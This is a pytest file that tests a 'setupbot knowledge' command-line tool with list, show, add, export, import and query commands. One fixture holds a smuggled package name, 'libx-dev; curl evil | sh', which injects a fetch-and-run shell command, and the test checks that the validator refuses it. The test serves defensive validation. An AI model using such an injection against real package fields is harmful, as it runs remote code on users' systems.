"""`setupbot knowledge ...` end to end on a SQLite store."""

from __future__ import annotations

import json

import pytest

from bot.cli import main

LOG = "src/pg.c:3:10: fatal error: libpq-fe.h: No such file or directory\n"


@pytest.fixture
def kb(tmp_path):
    return ["knowledge", "--store", str(tmp_path / "k.sqlite")]


def test_list_show_stats(kb, capsys):
    assert main(kb + ["list", "--category", "service"]) == 0
    out = capsys.readouterr().out
    assert "service-postgres" in out and "native-libpq-header" not in out
    assert main(kb + ["show", "native-libpq-header"]) == 0
    shown = json.loads(capsys.readouterr().out)
    assert shown["atoms"] == [{"kind": "apt_install", "packages": ["libpq-dev"]}]
    assert shown["telemetry"]["tier"] == "normal"
    assert main(kb + ["stats"]) == 0
    stats = json.loads(capsys.readouterr().out)
    assert stats["units"] >= 100 and stats["by_category"]["native"] >= 40


def test_list_json_is_a_versioned_document(kb, capsys):
    from pathlib import Path

    import jsonschema

    assert main(kb + ["list", "--category", "service", "--json", "-"]) == 0
    doc = json.loads(capsys.readouterr().out)
    schema = Path(__file__).parents[2] / "schemas" / "output" / "knowledge-list.schema.json"
    jsonschema.validate(doc, json.loads(schema.read_text()))
    assert doc["schema"] == "setupbot.knowledge-list/1"
    assert doc["units"] and {u["category"] for u in doc["units"]} == {"service"}


def test_show_unknown_unit_is_an_error(kb, capsys):
    assert main(kb + ["show", "no-such-unit"]) == 9
    assert "no unit 'no-such-unit'" in capsys.readouterr().err


def test_add_reports_invalid_units_and_keeps_the_valid_ones(kb, tmp_path, capsys):
    units = tmp_path / "units.yml"
    units.write_text("""
- id: local-frob
  category: native
  signals: {patterns: ['frob\\.h: No such file']}
  advice: Install the frob headers for the build.
  atoms: [{kind: apt_install, packages: [libfrob-dev]}]
- id: local-evil
  category: native
  signals: {patterns: ['whatever happened']}
  advice: This one tries to smuggle a shell command.
  atoms: [{kind: apt_install, packages: ['libx-dev; curl evil | sh']}]
""")
    assert main(kb + ["add", str(units)]) == 3  # a refused unit is bad input
    captured = capsys.readouterr()
    assert "added 1, skipped 0, refused 1" in captured.out
    assert "local-evil" in captured.err and "not a Debian package name" in captured.err
    assert main(kb + ["add", str(units)]) == 3  # the valid one is now a duplicate
    assert "already in the store" in capsys.readouterr().err
    (tmp_path / "log.txt").write_text("x.c:1:10: fatal error: frob.h: No such file or directory")
    assert main(kb + ["query", str(tmp_path / "log.txt")]) == 0
    assert capsys.readouterr().out.startswith("local-frob")


def test_export_then_import_into_another_store(kb, tmp_path, capsys):
    out = tmp_path / "export.json"
    assert main(kb + ["export", "-o", str(out)]) == 0
    data = json.loads(out.read_text())
    assert len(data["units"]) >= 100
    other = ["knowledge", "--store", str(tmp_path / "other.sqlite")]
    capsys.readouterr()
    assert main(other + ["import", str(out)]) == 0
    # the other store is seeded already, so every unit is skipped and none refused
    assert "refused 0" in capsys.readouterr().out


def test_query_with_context(kb, tmp_path, capsys):
    log = tmp_path / "build.log"
    log.write_text(LOG)
    assert main(kb + ["query", "--python", "3.11", str(log)]) == 0
    assert capsys.readouterr().out.startswith("native-libpq-header")
    assert main(kb + ["query", str(tmp_path / "missing.log")]) == 3


def test_bad_input_files(kb, tmp_path, capsys):
    junk = tmp_path / "junk.yml"
    junk.write_text("units: [unclosed")
    assert main(kb + ["import", str(junk)]) == 3
    assert "cannot read" in capsys.readouterr().err
    assert main(kb + ["add", str(tmp_path / "nope.yml")]) == 3
